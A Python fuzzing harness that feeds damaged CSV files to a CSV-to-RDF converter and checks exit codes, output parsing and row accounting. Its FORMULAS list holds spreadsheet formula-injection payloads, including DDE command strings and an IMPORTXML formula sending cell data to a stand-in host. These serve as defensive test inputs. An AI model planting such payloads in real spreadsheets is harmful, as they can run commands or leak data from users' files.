"""Fuzzing ``convert`` with damaged copies of real files: a mutation corpus and the invariant every case keeps.

Each seed (a golden case's input, a real municipal sample) is damaged in the ways files are damaged in
the wild (a cut, flipped bytes, NULs, rows in another encoding, stray quotes, CR-only line ends,
duplicate headers, a huge cell, 5,000 columns, spreadsheet formulas, control characters, bad dates and
coordinates …); a few files are crafted whole (empty, BOM only, UTF-16 …). Every case is converted by
the command line, as a user runs it, and must keep :func:`check`'s invariant:

- the exit status is 0, or 2 with the file-level issue that says why (docs/cli.md); never a traceback;
- the RDF written parses, and holds one record per row converted;
- every physical line of the input is in a row, and every row is a data row or set aside (header,
  ``#`` row, blank, title, note); every data row is converted or reported (``row.failed``);
- mutations that keep the rows (a formula, a flipped byte …) keep the number of rows read;
- no cell of ``issues.csv`` can start a spreadsheet formula.

``python -m tests.fuzzing`` runs the whole corpus and prints the figures; ``tests/test_fuzz.py`` runs a
sample of it (``--fuzz-full``: all of it).
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import sys
import tempfile
import time
import traceback
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import pyoxigraph as ox
from click.testing import CliRunner

from itsutsuboshi.cli.main import main as cli
from itsutsuboshi.converters.lines import LINE_LIMIT, detect_encoding
from itsutsuboshi.converters.reader import open_csv
from itsutsuboshi.spreadsheet import FORMULA_STARTS

HERE = Path(__file__).resolve().parent
CASES = HERE / "cases"
SAMPLES = HERE.parent.parent / "shared" / "samples"

_BYTE_LINE = re.compile(rb"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+")
_DATE = re.compile(r"^(\d{4}[-/.年]\d{1,2}[-/.月]\d{1,2}日?|[明大昭平令][^\d]*\d+年.*|\d{8}|[1-5]\d{4})$")
_COORD = re.compile(r"^-?\d{2,3}\.\d{3,}$")
_FORMATS = {"nt": ox.RdfFormat.N_TRIPLES, "ttl": ox.RdfFormat.TURTLE, "jsonld": ox.RdfFormat.JSON_LD,
            "rdf": ox.RdfFormat.RDF_XML}
_DERIVED = "http://www.w3.org/ns/prov#wasDerivedFrom"

FORMULAS = ['=HYPERLINK("https://evil.example/","click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1", '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")']
CONTROLS = [chr(c) for c in range(1, 32) if chr(c) not in "\r\n"] + ["\x7f", "\u0085", "\u2028", "\u2029", "\u202e",
                                                                       "\ufeff", "\u200b", "\ufffe"]
BAD_DATES = ["2024-13-45", "0000-00-00", "令和99年99月99日", "平成", "99999999", "2024/02/30", "R6.13.1", "昨日",
             "2024-1-1T25:61", "-1", "1e10", "３０００年１月１日"]
BAD_COORDS = ["999.9", "-91.0", "N35°41'22\"", "35,681", "NaN", "inf", "1e308", "０.０", "35.6.8", "139.7671 E",
              "-0", "35.68123456789012345678901234567890"]


@dataclass
class Seed:
    """A file the corpus damages: its bytes, encoding, line ending and rows (as the csv module reads them)."""

    name: str
    data: bytes
    encoding: str
    newline: str
    header_row: int  # 1-based
    rows: list[list[str]]
    rows_read: int  # the data rows convert reads from it undamaged

    @property
    def plain(self) -> str:
        return "utf-8" if self.encoding.startswith("utf") else "cp932"

    @property
    def bom(self) -> bytes:
        return b"\xef\xbb\xbf" if self.data.startswith(b"\xef\xbb\xbf") else b""

    def lines(self) -> list[bytes]:
        return _BYTE_LINE.findall(self.data)

    def data_lines(self, lines: list[bytes]) -> list[int]:
        """Indexes of physical lines below the header that hold data (no '#' row, no multi-line cell)."""
        first = self.header_row  # lines above the header's row are as many as rows when no cell spans lines
        return [i for i in range(first, len(lines)) if lines[i].strip(b"\r\n,") and not lines[i].startswith(b"#")]

    def encode(self, rows: list[list[str]], *, quote_all: bool = False) -> bytes:
        out = io.StringIO()
        csv.writer(out, lineterminator=self.newline, quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
                   ).writerows(rows)
        return self.bom + out.getvalue().encode(self.plain, "replace")


@cache
def load_seed(path: Path) -> Seed:
    data = path.read_bytes()
    encoding = detect_encoding(path)[0]
    text = data.decode(encoding, "replace")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    source = open_csv(path)
    header_row = source.header_row
    read = sum(1 for _ in source.rows())
    source.close()
    newline = "\r\n" if b"\r\n" in data[:4096] else "\n"
    name = path.parent.name + ".csv" if path.name == "input.csv" else path.name
    return Seed(name, data, encoding, newline, header_row, rows, read)


# -- mutations --------------------------------------------------------------------------------------
# Each takes a seed and a random generator and returns the damaged bytes. KEEPS_ROWS: mutations after
# which convert must read as many data rows as from the seed.

Mutation = Callable[[Seed, random.Random], bytes]


def _cells(seed: Seed, rng: random.Random, pick: Callable[[str], bool] = bool, k: int = 5) -> list[tuple[int, int]]:
    """Up to ``k`` (row, column) of data cells for which ``pick`` is true."""
    found = [(r, c) for r in range(seed.header_row, len(seed.rows)) for c, v in enumerate(seed.rows[r]) if pick(v)]
    return rng.sample(found, min(k, len(found)))


def _replace_cells(values: list[str], pick: Callable[[str], bool] = bool) -> Mutation:
    def mutate(seed: Seed, rng: random.Random) -> bytes:
        rows = [r.copy() for r in seed.rows]
        for r, c in _cells(seed, rng, pick, k=rng.randint(1, 8)):
            rows[r][c] = rng.choice(values)
        return seed.encode(rows, quote_all=rng.random() < 0.3)
    return mutate


def truncated(seed: Seed, rng: random.Random) -> bytes:
    return seed.data[:rng.randint(len(seed.data) // 3, len(seed.data) - 1)]


def flipped_bytes(seed: Seed, rng: random.Random) -> bytes:
    """Bytes of data lines changed to other bytes; none becomes or was a quote, comma or line break."""
    lines = seed.lines()
    structural = set(b'",\r\n')
    for i in rng.sample(seed.data_lines(lines), min(rng.randint(1, 6), len(seed.data_lines(lines)))):
        line = bytearray(lines[i])
        at = rng.randrange(len(line))
        if line[at] not in structural:
            line[at] = rng.choice([b for b in range(1, 256) if b not in structural])
        lines[i] = bytes(line)
    return b"".join(lines)


def nul_bytes(seed: Seed, rng: random.Random) -> bytes:
    lines = seed.lines()
    for i in rng.sample(seed.data_lines(lines), min(3, len(seed.data_lines(lines)))):
        at = rng.randrange(len(lines[i].rstrip(b"\r\n")) + 1)
        lines[i] = lines[i][:at] + b"\x00" * rng.choice([1, 1, 4, 300]) + lines[i][at:]
    return b"".join(lines)


def mixed_encodings(seed: Seed, rng: random.Random) -> bytes:
    """Some data lines written in the other encoding (Shift_JIS in a UTF-8 file, or the reverse)."""
    lines, other = seed.lines(), "cp932" if seed.plain == "utf-8" else "utf-8"
    chosen = [i for i in seed.data_lines(lines) if not lines[i].isascii()]
    for i in rng.sample(chosen, min(rng.randint(1, 5), len(chosen))):
        lines[i] = lines[i].decode(seed.plain, "replace").encode(other, "replace")
    return b"".join(lines)


def stray_quotes(seed: Seed, rng: random.Random) -> bytes:
    """A quote opening a cell, inside one or closing one, on one to three data lines."""
    lines = seed.lines()
    for i in rng.sample(seed.data_lines(lines), min(rng.randint(1, 3), len(seed.data_lines(lines)))):
        line = lines[i]
        commas = [m.end() for m in re.finditer(rb",", line)] or [0]
        at = rng.choice([rng.choice(commas), rng.randrange(len(line.rstrip(b"\r\n")) + 1)])
        lines[i] = line[:at] + b'"' + line[at:]
    return b"".join(lines)


def cr_endings(seed: Seed, rng: random.Random) -> bytes:
    return re.sub(rb"\r\n|\n", b"\r", seed.data)


def mixed_endings(seed: Seed, rng: random.Random) -> bytes:
    return b"".join(line.rstrip(b"\r\n") + rng.choice([b"\r\n", b"\n", b"\r"]) if line.endswith((b"\r", b"\n"))
                    else line for line in seed.lines())


def duplicate_header(seed: Seed, rng: random.Random) -> bytes:
    """A column named as another; or the header again among the data, or twice at the top."""
    rows = [r.copy() for r in seed.rows]
    h = seed.header_row - 1
    kind = rng.choice(["name", "again", "twice"])
    if kind == "name" and len(rows[h]) > 2:
        a, b = rng.sample(range(len(rows[h])), 2)
        rows[h][b] = rows[h][a]
    elif kind == "again" and len(rows) > h + 2:
        rows.insert(rng.randint(h + 2, len(rows)), rows[h].copy())
    else:
        rows.insert(h, rows[h].copy())
    return seed.encode(rows)


def huge_cell(seed: Seed, rng: random.Random) -> bytes:
    """One cell longer than a line may be held whole (16 MiB), quoted or not."""
    rows = [r.copy() for r in seed.rows]
    (r, c), = _cells(seed, rng, lambda v: True, k=1) or [(seed.header_row, 0)]
    rows[r][c] = rng.choice(["あ", "x", "a,b\n"]) * (LINE_LIMIT // 3 + rng.randint(1, 1000))
    return seed.encode(rows)


def wide(seed: Seed, rng: random.Random) -> bytes:
    """5,000 columns: the header and every row widened with columns of made-up names and values."""
    rows = [r.copy() for r in seed.rows]
    h = seed.header_row - 1
    extra = 5000 - len(rows[h])
    rows[h] += [f"追加列{n}" for n in range(extra)]
    for row in rows[h + 1:]:
        if any(row) and not row[0].startswith("#"):
            row += [rng.choice(["", "1", "あ", "x"]) for _ in range(extra)]
    return seed.encode(rows)


def dropped_and_repeated_lines(seed: Seed, rng: random.Random) -> bytes:
    lines = seed.lines()
    data = seed.data_lines(lines)
    for i in sorted(rng.sample(data, min(3, len(data))), reverse=True):
        if rng.random() < 0.5:
            del lines[i]
        else:
            lines.insert(i, lines[i] if lines[i].endswith((b"\r", b"\n")) else lines[i] + b"\n")
    return b"".join(lines)


def ragged_rows(seed: Seed, rng: random.Random) -> bytes:
    """Rows with cells missing at the end, or extra cells (empty or not) after the last column."""
    rows = [r.copy() for r in seed.rows]
    for r, _ in _cells(seed, rng, k=6):
        rows[r] = rows[r][:rng.randint(1, len(rows[r]))] if rng.random() < 0.5 else rows[r] + [""] * rng.randint(
            1, 5) + rng.choice([[], ["余分"]])
    return seed.encode(rows)


def shuffled_columns(seed: Seed, rng: random.Random) -> bytes:
    h = seed.header_row - 1
    order = list(range(len(seed.rows[h])))
    rng.shuffle(order)
    rows = [r.copy() for r in seed.rows]
    for i in range(h, len(rows)):
        if rows[i] and not rows[i][0].startswith("#"):
            rows[i] = [rows[i][j] if j < len(rows[i]) else "" for j in order] + rows[i][len(order):]
    return seed.encode(rows)


def blank_header_cells(seed: Seed, rng: random.Random) -> bytes:
    rows = [r.copy() for r in seed.rows]
    h = seed.header_row - 1
    for c in rng.sample(range(len(rows[h])), min(2, len(rows[h]))):
        rows[h][c] = ""
    return seed.encode(rows)


def control_characters(seed: Seed, rng: random.Random) -> bytes:
    rows = [r.copy() for r in seed.rows]
    for r, c in _cells(seed, rng, k=rng.randint(1, 8)):
        at = rng.randrange(len(rows[r][c]) + 1)
        rows[r][c] = rows[r][c][:at] + "".join(rng.choices(CONTROLS, k=rng.randint(1, 3))) + rows[r][c][at:]
    return seed.encode(rows)


def bom_games(seed: Seed, rng: random.Random) -> bytes:
    bom = b"\xef\xbb\xbf"
    kind = rng.choice(["twice", "middle", "added"])
    if kind == "twice":
        return bom + bom + seed.data[len(seed.bom):]
    if kind == "middle":
        lines = seed.lines()
        i = rng.choice(seed.data_lines(lines) or [0])
        lines[i] = bom + lines[i]
        return b"".join(lines)
    return bom + seed.data[len(seed.bom):]


def garbage_block(seed: Seed, rng: random.Random) -> bytes:
    start = rng.randrange(len(seed.data))
    size = rng.randint(16, 4096)
    return seed.data[:start] + rng.randbytes(size) + seed.data[start + size:]


MUTATIONS: dict[str, Mutation] = {
    "truncated": truncated,
    "flipped bytes": flipped_bytes,
    "NUL bytes": nul_bytes,
    "mixed encodings": mixed_encodings,
    "stray quotes": stray_quotes,
    "CR-only line ends": cr_endings,
    "mixed line ends": mixed_endings,
    "duplicate header": duplicate_header,
    "huge cell": huge_cell,
    "5,000 columns": wide,
    "formulas": _replace_cells(FORMULAS),
    "control characters": control_characters,
    "bad dates": _replace_cells(BAD_DATES, lambda v: bool(_DATE.match(v))),
    "bad coordinates": _replace_cells(BAD_COORDS, lambda v: bool(_COORD.match(v))),
    "dropped and repeated lines": dropped_and_repeated_lines,
    "ragged rows": ragged_rows,
    "shuffled columns": shuffled_columns,
    "blank header cells": blank_header_cells,
    "BOM": bom_games,
    "garbage block": garbage_block,
}
KEEPS_ROWS = {"flipped bytes", "NUL bytes", "mixed encodings", "CR-only line ends", "mixed line ends", "huge cell",
              "5,000 columns", "formulas", "control characters", "bad dates", "bad coordinates", "shuffled columns",
              "stray quotes"}

_HEADER = "全国地方公共団体コード,ID,地方公共団体名,名称,名称_カナ,所在地_連結表記,緯度,経度,電話番号"
_ROW = "999997,{0},架空県星野市,星野{0}号館,ホシノ{0}ゴウカン,架空県星野市本町{0}番地,35.{0:04d},139.{0:04d},03-0000-{0:04d}"
CRAFTED: dict[str, bytes] = {
    "empty file": b"",
    "BOM only": b"\xef\xbb\xbf",
    "one blank line": b"\r\n",
    "commas only": b",,,,\r\n,,,,\r\n",
    "header only": _HEADER.encode() + b"\r\n",
    "header without a line end": _HEADER.encode(),
    "metadata rows only": b"#LINK,x\r\n#lang,ja\r\n#property,name\r\n",
    "UTF-16": ("\n".join([_HEADER] + [_ROW.format(n) for n in range(1, 20)]) + "\n").encode("utf-16"),
    "tab separated": ("\n".join([_HEADER] + [_ROW.format(n) for n in range(1, 20)])).replace(",", "\t").encode(),
    "binary": bytes(range(256)) * 64,
    "a gzip file": zlib.compress(("\n".join([_HEADER] + [_ROW.format(n) for n in range(1, 20)])).encode()),
    "one quote left open": (_HEADER + "\n" + _ROW.format(1) + '\n"' + _ROW.format(2) + "\n" + "\n".join(
        _ROW.format(n) for n in range(3, 200)) + "\n").encode(),
    "quotes everywhere": (_HEADER + "\n" + "\n".join('"' + _ROW.format(n).replace(",", '","') + '""' for n in
                                                      range(1, 50)) + "\n").encode(),
    "one line of a million commas": _HEADER.encode() + b"\n" + b"," * 1_000_000 + b"\n",
    "a million lines": (_HEADER + "\n" + "999997,1,,x,,,,,\n" + "\n" * 1_000_000).encode(),
}


# -- the corpus -------------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    name: str  # the file's name (a seed's: its words tell the dataset)
    mutation: str
    make: Callable[[], bytes]
    seed: Seed | None = None


def seed_paths(shared: bool = True) -> list[Path]:
    """Golden case inputs, then the real samples in ``../shared`` (when present)."""
    paths = sorted(CASES.glob("*/input.csv"))
    if shared and SAMPLES.is_dir():
        paths += sorted((SAMPLES / "raw").glob("*.csv")) + sorted((SAMPLES / "local").glob("*.csv"))
    return paths


def corpus(seeds: list[Path], *, variants: int = 2, sample: int | None = None, seed: int = 0) -> Iterator[Case]:
    """``variants`` cases of every mutation of every seed, and the crafted files; with ``sample``, that many
    seeds per mutation (chosen in turn, so every seed is used) and at most one huge cell."""
    for name, data in CRAFTED.items():
        yield Case(f"crafted-{name}", "input.csv", f"crafted: {name}", lambda d=data: d)
    turn = 0
    for mutation, mutate in MUTATIONS.items():
        chosen = seeds
        if sample is not None:
            count = 1 if mutation == "huge cell" else sample
            chosen = [seeds[(turn + k) % len(seeds)] for k in range(min(count, len(seeds)))]
            turn += count
        for path in chosen:
            for variant in range(1 if sample is not None else variants):
                rng_seed = zlib.crc32(f"{seed}/{mutation}/{path.name}/{variant}".encode())

                def make(path: Path = path, mutate: Mutation = mutate, rng_seed: int = rng_seed) -> bytes:
                    return mutate(load_seed(path), random.Random(rng_seed))

                label = path.parent.name if path.name == "input.csv" else path.stem
                yield Case(f"{mutation}-{label}-{variant}", path.parent.name + ".csv" if path.name == "input.csv"
                           else path.name, mutation, make, None)


# -- the invariant ----------------------------------------------------------------------------------


@dataclass
class Outcome:
    case: str
    mutation: str
    exit_code: int = 0
    crashed: bool = False
    problems: list[str] = field(default_factory=list)
    lines: int = 0
    rows_read: int = 0
    rows_unaccounted: int = 0
    lines_unaccounted: int = 0
    seconds: float = 0.0


def check(case: Case, workdir: Path) -> Outcome:
    """Convert ``case`` with the command line in ``workdir`` and check the invariant."""
    outcome = Outcome(case.id, case.mutation)
    data = case.make()
    seed = load_seed(_seed_path(case)) if case.mutation in KEEPS_ROWS else None
    path = workdir / case.name
    path.write_bytes(data)
    extension = list(_FORMATS)[zlib.crc32(case.id.encode()) % len(_FORMATS)]
    out, summary, issues_path = workdir / "out", workdir / "summary.json", workdir / "issues.csv"
    started = time.perf_counter()
    result = CliRunner().invoke(cli, ["convert", str(path), "-o", str(out), "-f", extension, "--summary",
                                      str(summary), "--issues", str(issues_path), "-q"])
    outcome.seconds = time.perf_counter() - started
    outcome.exit_code = result.exit_code
    problems = outcome.problems
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        outcome.crashed = True
        problems.append("crash: " + "".join(traceback.format_exception(result.exception))[-2000:])
        return outcome
    if "Traceback" in result.output:
        problems.append("a traceback was printed")
    if result.exit_code not in (0, 2):
        problems.append(f"exit status {result.exit_code}")
        return outcome
    counts = json.loads(summary.read_text(encoding="utf-8"))[0]
    with open(issues_path, encoding="utf-8", newline="") as f:
        issues = list(csv.DictReader(f))
    for issue in issues:
        bad = [v for v in issue.values() if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
        if bad:
            problems.append(f"issues.csv cell could run as a formula: {bad[0][:60]!r}")
    if result.exit_code == 2:
        if not counts["error"] or not any(i["code"] == counts["error"] for i in issues):
            problems.append(f"exit status 2 without the file-level issue saying why ({counts['error']})")
        return outcome
    if counts["error"]:
        problems.append(f"exit status 0 with a file error {counts['error']}")
    rows = counts["rows"]
    physical = len(_BYTE_LINE.findall(data))
    outcome.lines, outcome.rows_read = physical, rows["read"]
    outcome.lines_unaccounted = abs(physical - counts["lines"])
    outcome.rows_unaccounted = abs(rows["total"] - rows["read"] - rows["set_aside"]) + abs(
        rows["read"] - rows["converted"] - rows["failed"])
    failed = sum(1 for i in issues if i["code"] == "row.failed")
    if outcome.lines_unaccounted:
        problems.append(f"{physical} physical lines, {counts['lines']} read")
    if outcome.rows_unaccounted:
        problems.append(f"rows not accounted for: {rows}")
    if failed != rows["failed"]:
        problems.append(f"{rows['failed']} rows failed, {failed} reported")
    if seed is not None and rows["read"] != seed.rows_read and not _ambiguous_quotes(case, seed, rows, issues):
        problems.append(f"{rows['read']} data rows read, {seed.rows_read} in the undamaged file")
    output = out / (path.stem + "." + extension)
    try:
        quads = ox.parse(path=str(output), format=_FORMATS[extension])
        records = {q.object.value for q in quads if q.predicate.value == _DERIVED and "#row=" in q.object.value}
    except (OSError, SyntaxError, ValueError) as exc:
        problems.append(f"the {extension} output does not parse: {exc}"[:300])
        return outcome
    if len(records) != rows["converted"]:
        problems.append(f"{rows['converted']} rows converted, {len(records)} records in the output")
    return outcome


def _ambiguous_quotes(case: Case, seed: Seed, rows: dict, issues: list[dict]) -> bool:
    """A stray quote on a line inside a multi-line cell cannot be told from the quote that ends the cell:
    the record may then be read as more rows, or fewer, than the undamaged file has. That is allowed
    when the file has multi-line records and every row that differs is reported as repaired."""
    if case.mutation != "stray quotes" or not any("\n" in cell or "\r" in cell for row in seed.rows for cell in row):
        return False
    repaired = sum(1 for i in issues if i["code"] == "row.quote_recovered")
    return abs(rows["read"] - seed.rows_read) <= repaired


def _seed_path(case: Case) -> Path:
    for path in seed_paths():
        if (path.parent.name + ".csv" if path.name == "input.csv" else path.name) == case.name:
            return path
    raise KeyError(case.name)


def run(cases: list[Case], *, progress: bool = False) -> list[Outcome]:
    outcomes = []
    for n, case in enumerate(cases, 1):
        with tempfile.TemporaryDirectory(prefix="itsu-fuzz-") as tmp:
            outcomes.append(check(case, Path(tmp)))
        if progress:
            o = outcomes[-1]
            print(f"\r{n}/{len(cases)} {case.id[:60]:<60} {'FAIL' if o.problems else 'ok'}", end="", file=sys.stderr)
    if progress:
        print(file=sys.stderr)
    return outcomes


def figures(outcomes: list[Outcome]) -> str:
    """The table of results by mutation, and the totals."""
    by: dict[str, list[Outcome]] = {}
    for o in outcomes:
        by.setdefault(o.mutation.split(":")[0], []).append(o)
    lines = [f"{'mutation':<28} {'cases':>6} {'exit 0':>6} {'exit 2':>6} {'crash':>6} {'failed':>6} "
             f"{'lines':>9} {'rows read':>9} {'unacc.':>6} {'s':>7}"]
    for name, group in [*by.items(), ("total", outcomes)]:
        codes = Counter(o.exit_code for o in group)
        lines.append(f"{name:<28} {len(group):>6} {codes[0]:>6} {codes[2]:>6} {sum(o.crashed for o in group):>6} "
                     f"{sum(bool(o.problems) for o in group):>6} {sum(o.lines for o in group):>9} "
                     f"{sum(o.rows_read for o in group):>9} "
                     f"{sum(o.rows_unaccounted + o.lines_unaccounted for o in group):>6} "
                     f"{sum(o.seconds for o in group):>7.1f}")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Convert a damaged corpus and check that nothing is lost.")
    parser.add_argument("seeds", nargs="*", type=Path, help="seed CSV files (default: golden cases and ../shared)")
    parser.add_argument("--variants", type=int, default=2, help="cases per mutation and seed (default 2)")
    parser.add_argument("--sample", type=int, default=None, help="only this many seeds per mutation")
    parser.add_argument("--seed", type=int, default=0, help="random seed of the corpus")
    parser.add_argument("--only", default=None, help="only the mutations whose name contains this")
    args = parser.parse_args(argv)
    cases = [c for c in corpus(args.seeds or seed_paths(), variants=args.variants, sample=args.sample, seed=args.seed)
             if args.only is None or args.only in c.mutation]
    started = time.perf_counter()
    outcomes = run(cases, progress=sys.stderr.isatty())
    print(figures(outcomes))
    print(f"\n{len(outcomes)} cases in {time.perf_counter() - started:.0f} s")
    for o in outcomes:
        for problem in o.problems:
            print(f"FAIL {o.case}: {problem}")
    return 1 if any(o.problems for o in outcomes) else 0


if __name__ == "__main__":
    sys.exit(main())
